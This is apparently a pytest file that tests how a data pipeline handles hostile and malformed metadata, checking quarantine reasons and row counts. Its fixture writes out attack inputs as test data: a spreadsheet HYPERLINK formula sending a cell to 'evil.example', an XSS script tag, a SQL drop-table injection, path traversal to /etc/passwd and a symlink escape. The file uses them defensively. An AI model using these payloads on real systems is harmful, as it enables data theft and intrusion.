"""Hostile and drifting metadata through the whole chain: the rule is applied to each row, and the counts add up.

Faults 16 and 19: duplicates, late rows, another schema, empty files and days, paths and ids of an attacker, formulas.
"""

from __future__ import annotations

import json

import pytest

from pipelines.lake import Lake
from pipelines.landing import Landing, LandingOptions
from pipelines.quality.quarantine import quarantined
from tests.assets.conftest import DIALOGUE, MONDAY, TUESDAY, Installation, made_in, parsed_project  # noqa: F401

pytestmark = pytest.mark.promise

COLUMNS = ("interaction_id", "channel", "started_at", "agent_id", "campaign")
FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")"  # fmt: skip
XSS, SQL, HIDDEN = "<script>alert(1)</script>", "'; drop table fct_interactions; --", "\u202eexe\u200b.x"
TEXTS = (FORMULA, "@SUM(1+1)", "+1-2", "-3", XSS, SQL, HIDDEN, "{{ 7*7 }}")


def row(interaction_id: str, **other: object) -> dict:
    values = (interaction_id, "call", "2026-03-02T09:00:00Z", "007", "billing")
    return dict(zip(COLUMNS, values, strict=True)) | other


def transcripts(*ids: str) -> list[dict]:
    return [
        {"interaction_id": i, "party": p, "text": t, "start_s": 7 * n, "end_s": 7 * n + 6}
        for i in ids
        for n, (p, t) in enumerate(DIALOGUE)
    ]


@pytest.fixture(scope="module")
def installation(tmp_path_factory, parsed_project) -> Installation:  # noqa: F811
    made = made_in(tmp_path_factory.mktemp("metadata"), parsed_project)
    made.landing.joinpath("recordings").mkdir()
    (made.root / "secret.csv").write_text(",".join(COLUMNS) + "\n" + ",".join(row("from-outside").values()) + "\n")
    good = [f"good-{n}" for n in range(3)]
    # the same id twice in one file: the first stands
    made.deliver("interactions-a.csv", [row(i) for i in good] + [row("good-0", campaign="second")])
    # another schema: other order and case, more columns, one that was renamed
    header, cells = (
        "Campaign,AGENT_ID,mood,started_at,Channel,interaction_id",
        "billing,007,fine,2026-03-02T09:00:00Z,call",
    )
    made.landing.joinpath("interactions-b.csv").write_text(f"{header}\n{cells},drifted\n")
    renamed = "interaction_id,channel,start_time,agent_id,campaign\nrenamed,call,2026-03-02T09:00:00Z,007,billing\n"
    made.landing.joinpath("interactions-2026-03-02-renamed.csv").write_text(renamed)
    # empty days and files
    made.landing.joinpath("interactions-2026-03-03.csv").write_text(",".join(COLUMNS) + "\n")
    made.landing.joinpath("interactions-nothing.csv").write_bytes(b"")
    # an attacker's rows
    hostile = [
        row("up", recording="../../../../etc/passwd"),
        row("absolute", recording="/etc/hostname"),
        row("nul", recording="recordings/a\x00.wav"),
        row("text-times", started_at="now"),
        row("bell\x07"),
        row("a/b"),
        row("<img src=x>"),
        row(FORMULA),
        *(row(f"text-{n}", campaign=text, queue=text) for n, text in enumerate(TEXTS)),
    ]
    lines = [json.dumps(r) for r in hostile]
    lines.insert(3, '{"interaction_id": "cut", "channel": "ca')
    lines.insert(5, '{"interaction_id": "deep", "x": ' + "[" * 100_000 + "}")
    made.landing.joinpath("interactions-hostile.jsonl").write_text("\n".join(lines) + "\n")
    made.landing.joinpath("interactions-link.csv").symlink_to(made.root / "secret.csv")
    made.landing.joinpath("interactions-torn.parquet").write_bytes(b"PAR1" + bytes(100) + b"PAR1")
    made.landing.joinpath("interactions-wide.csv").write_bytes((",".join(COLUMNS) + "\n").encode("utf-16"))
    made.deliver("agents.csv", [{"agent_id": "007", "name": FORMULA, "team": XSS}])
    texts = [f"text-{n}" for n in range(len(TEXTS))]
    made.deliver("transcripts.csv", transcripts(*good, "drifted", *texts) + transcripts("never-came"))
    (result,) = made.run()
    assert result.success, result.errors
    return made


def statuses(made: Installation) -> dict[str, str]:
    return dict(made.sql("select interaction_id, status || coalesce(' ' || reason, '') from fct_interactions"))


def rejected(made: Installation) -> set[tuple]:
    frame = quarantined(Lake(made.settings.lake))
    return set(frame.filter(frame["kind"] != "interaction").select("file", "row_number", "reason").rows())


def test_every_good_row_is_scored_whatever_stands_around_it(installation):
    found = statuses(installation)
    for name in ("good-0", "good-1", "good-2", "drifted", *(f"text-{n}" for n in range(len(TEXTS)))):
        assert found[name] == "scored", name
    assert installation.sql("select campaign from fct_interactions where interaction_id = 'good-0'") == [("billing",)]


def test_a_bad_row_that_has_an_id_and_a_day_is_kept_and_the_others_are_rejects_with_file_and_row(installation):
    found = statuses(installation)
    kept = {"up": "path_escape", "absolute": "path_escape", "nul": "metadata_invalid", "renamed": "metadata_invalid"}
    assert {i: found[i] for i in kept} == {i: f"quarantined {reason}" for i, reason in kept.items()}
    hostile = "interactions-hostile.jsonl"
    assert rejected(installation) == {
        ("interactions-a.csv", 4, "duplicate"),
        ("interactions-nothing.csv", None, "unreadable_file"),
        ("interactions-link.csv", None, "path_escape"),
        ("interactions-torn.parquet", None, "unreadable_file"),
        ("interactions-wide.csv", None, "unreadable_file"),
        *((hostile, n, "metadata_invalid") for n in (4, 5, 6, 7, 8, 9, 10)),
        ("transcripts.csv", 1 + 6 * (4 + len(TEXTS)), "unknown_interaction"),
    }


def test_no_row_is_lost_received_is_scored_excluded_and_quarantined(installation):
    ((received, scored, excluded, quarantined_),) = installation.sql(
        "select received, scored, excluded, quarantined from ops_ledger"
    )
    assert received == scored + excluded + quarantined_ == len(statuses(installation))
    files = Landing(LandingOptions.of(installation.settings)).files()
    assert (files["rows_read"] == files["rows_accepted"] + files["rows_rejected"]).all()
    assert "from-outside" not in statuses(installation)


def test_texts_of_an_attacker_stay_texts_and_numbers_stay_numbers(installation):
    found = dict(installation.sql("select interaction_id, campaign from fct_interactions"))
    assert [found[f"text-{n}"] for n in range(len(TEXTS))] == list(TEXTS)
    pages = "".join(p.read_text() for p in (installation.root / "published" / "current").rglob("*.html"))
    assert "<script>alert" not in pages
    ((kind,),) = installation.sql("select distinct typeof(iqs) from fct_interactions where iqs is not null")
    assert kind.startswith(("DECIMAL", "DOUBLE"))


def test_nothing_that_is_published_is_a_csv(installation):
    """Spreadsheets take a cell for a formula only in files of text: what they get from us has typed columns."""
    written = [p for p in (installation.root / "published").rglob("*") if p.is_file()]
    assert written
    assert not [p for p in written if p.suffix.lower() in (".csv", ".tsv", ".xls", ".xlsx", ".txt")]


def test_late_rows_and_the_rest_of_a_torn_delivery_re_open_only_their_day(installation):
    before = installation.waiting()
    assert before == []
    installation.deliver("interactions-late.csv", [row("late"), row("tuesday", started_at="2026-03-03T09:00:00Z")])
    installation.deliver("transcripts-late.csv", transcripts("late", "tuesday", "never-came"))
    assert installation.waiting() == [MONDAY, TUESDAY]
    (installation.landing / "interactions-torn.parquet").unlink()
    (result,) = installation.run()
    assert result.success, result.errors
    found = statuses(installation)
    assert (found["late"], found["tuesday"]) == ("scored", "scored")
    days = dict(installation.sql("select call_date, received from ops_ledger"))
    assert days == {MONDAY: len(found) - 1, TUESDAY: 1}
    assert "interactions-torn.parquet" not in {file for file, *_ in rejected(installation)}
